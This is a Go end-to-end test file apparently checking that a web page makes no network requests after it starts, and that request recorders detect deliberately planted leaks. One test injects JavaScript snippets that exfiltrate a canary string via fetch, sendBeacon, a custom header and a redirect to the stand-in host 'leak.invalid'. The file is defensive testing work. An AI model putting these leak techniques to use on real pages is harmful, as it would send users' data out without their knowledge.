package e2e

import (
	"strings"
	"testing"
)

func TestNothingIsSentAfterStart(t *testing.T) {
	t.Parallel()
	p := newTab(t, newSite(t))
	p.open("/")
	p.installed()
	start := p.mark()
	p.press("38")
	p.click("h1")
	p.silentSince(start)
	for _, r := range p.other.since(0) {
		t.Error("another host was asked:", r)
	}
	p.clean()
}

// The recorders must not be blind: each planted leak has to be seen.
func TestPlantedLeaksAreSeen(t *testing.T) {
	t.Parallel()
	p := newTab(t, newSite(t))
	p.open("/")
	p.installed()
	for _, leak := range []struct{ name, seenBy, script string }{
		{"fetch", "page", `fetch("?note=" + encodeURIComponent(canary))`},
		{"beacon", "server", `navigator.sendBeacon("x", btoa("--" + canary))`},
		{"header", "server", `fetch("x", {headers: {note: canary}})`},
		{"link", "proxy", `location.href = "http://leak.invalid/" + canary`}, // last: it leaves the page
	} {
		canary := "CANARY 7319 " + leak.name
		start := p.mark()
		eval[bool](p, `(() => { const canary = "`+canary+`"; `+leak.script+`; return true })()`)
		since := p.requestsSince(start)
		if len(since) == 0 {
			t.Errorf("%s: the request was not seen", leak.name)
		}
		var seenBy []string
		for _, r := range carrying(since, canary) {
			seenBy = append(seenBy, r.seenBy)
		}
		if !strings.Contains(strings.Join(seenBy, " "), leak.seenBy) {
			t.Errorf("%s: the canary was seen by %v, want %s among them", leak.name, seenBy, leak.seenBy)
		}
	}
}
